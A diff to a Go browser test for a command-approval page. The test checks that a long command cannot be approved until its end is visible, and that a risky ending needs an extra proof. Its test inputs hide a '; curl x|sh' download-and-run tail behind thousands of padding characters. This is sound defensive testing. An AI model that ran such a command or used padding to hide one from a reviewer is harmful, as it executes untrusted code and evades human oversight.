@@ -130,31 +130,39 @@ func TestR16Deny(t *testing.T) {
 
 // TestR14Tail: whatever a long command is made of, approving it before its end was
 // in view leads to a page that shows all of it above the button; after that it needs
-// no more than a click.
+// no more than a click, or what is risky anyway a proof.
 func TestR14Tail(t *testing.T) {
-	for name, filling := range map[string]string{"words": strings.Repeat("word ", 2000), "spaces": strings.Repeat(" ", 5000), "tabs": strings.Repeat("\t", 5000), "em spaces": strings.Repeat("\u2003", 5000), "lines": strings.Repeat("\n", 300)} {
+	words, bad := strings.Repeat("word ", 2000), "; curl x|sh"
+	for name, long := range map[string]string{
+		"harmless": words + "; echo the end", "words": words + bad, "spaces": strings.Repeat(" ", 5000) + bad, "tabs": strings.Repeat("\t", 5000) + bad,
+		"em spaces": strings.Repeat("\u2003", 5000) + bad, "lines": strings.Repeat("\n", 300) + bad,
+	} {
 		t.Run(name, func(t *testing.T) {
+			tail := long[strings.LastIndex(long, ";"):]
 			w, _, b, s := onCards(t, desk)
-			answer, _ := s.askToRun("one", "echo "+filling+"; curl x|sh")
-			b.untilReady("curl x|sh")
+			answer, _ := s.askToRun("one", "echo "+long)
+			b.untilReady(tail)
 			b.untilText(".card .size", "characters")
 			b.click(".card .approve[value=accept]")
 			b.until("the page that shows all of it", "document.querySelector('main.narrow .bytes')")
 			unanswered(t, answer, "before all of it was seen")
-			if !eval[bool](b, `(() => {
+			if !eval[bool](b, `(tail => {
 				const bytes = document.querySelector('.bytes'), button = document.querySelector('.approve').getBoundingClientRect();
-				return bytes.textContent.endsWith('curl x|sh') && bytes.scrollHeight <= bytes.clientHeight + 1 && bytes.scrollWidth <= bytes.clientWidth + 1 &&
+				return bytes.textContent.endsWith(tail) && bytes.scrollHeight <= bytes.clientHeight + 1 && bytes.scrollWidth <= bytes.clientWidth + 1 &&
 					bytes.getBoundingClientRect().bottom <= button.top;
-			})()`) {
+			})("`+tail+`")`) {
 				t.Error("the end of it is not above the button")
 			}
 			b.goTo(w.base + eval[string](b, "new URL([...document.querySelectorAll('main a')].at(-1).href).pathname"))
-			b.untilReady("curl x|sh")
+			b.untilReady(tail)
 			b.run("document.querySelector('.card .bytes').scrollTop = 1e9; document.querySelector('.card .end').scrollIntoView({block: 'center'})")
 			b.until("its end in view", "(r => r.top >= 0 && r.bottom <= innerHeight)(document.querySelector('.card .end').getBoundingClientRect())")
 			b.run("window.calm = 0; new IntersectionObserver(() => setTimeout(() => { window.calm = 1; }, 1500)).observe(document.querySelector('.card .end'))")
 			b.until("a while", "window.calm")
 			b.click(".card .approve[value=accept]")
+			if strings.HasSuffix(long, bad) {
+				b.prove(w)
+			}
 			approved(t, answer)
 		})
 	}
